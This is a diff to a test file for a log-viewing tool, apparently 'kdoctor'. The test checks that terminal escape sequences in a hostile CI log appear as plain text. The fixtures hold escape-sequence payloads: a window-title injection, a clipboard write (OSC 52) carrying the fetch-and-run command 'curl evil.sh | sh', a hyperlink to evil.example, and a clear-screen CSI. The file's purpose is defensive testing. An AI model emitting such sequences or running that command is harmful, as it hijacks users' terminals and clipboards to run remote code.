@@ -16,10 +16,10 @@ const ESC = '\u001B';
 const BEL = '\u0007';
 /** What a hostile CI log can carry: a window title, a clipboard write (OSC 52), a hyperlink (OSC 8), CR, 8-bit CSI. */
 const ATTACK = [
-	`${ESC}]0;pwned-title${BEL}Error: ErrImageNeverPull`,
-	`${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}${BEL}Warning  Failed  kubelet  Error: ErrImageNeverPull`,
-	`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\ Failed to pull image "gateway:kd-1": ErrImageNeverPull`,
-	'progress 10%\rFATAL Error: ErrImageNeverPull \u009b2J after',
+	`${ESC}]0;pwned-title${BEL}Error: container name "gw_test" is already in use`,
+	`${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}${BEL}Warning  Error: container name "gw_test" is already in use`,
+	`${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\ Failed: container name "gw_test" is already in use`,
+	'progress 10%\rFATAL Error: container name "gw_test" is already in use \u009b2J after',
 ].join('\n');
 
 const work = mkdtempSync(join(tmpdir(), 'kdoctor-hostile-'));
@@ -43,7 +43,7 @@ describe('2. terminal escapes in a log are shown as text, never sent to the term
 		['a window title (OSC 0)', 0, '\\e]0;pwned-title\\x07Error'],
 		['a clipboard write (OSC 52)', 1, '\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07Warning'],
 		['a hyperlink (OSC 8)', 2, '\\e]8;;https://evil.example/\\e\\click\\e]8;;\\e\\ Failed'],
-		['a carriage return and an 8-bit CSI', 3, 'progress 10%\\rFATAL Error: ErrImageNeverPull \\u009b2J after'],
+		['a carriage return and an 8-bit CSI', 3, 'progress 10%\\rFATAL Error: container name \"gw_test\" is already in use \\u009b2J after'],
 	])('--plain in a pipe: %s appears as visible text', async (_what, i, shown) => {
 		const one = join(work, `osc-${i}.log`);
 		writeFileSync(one, `${ATTACK.split('\n')[i]}\n`);
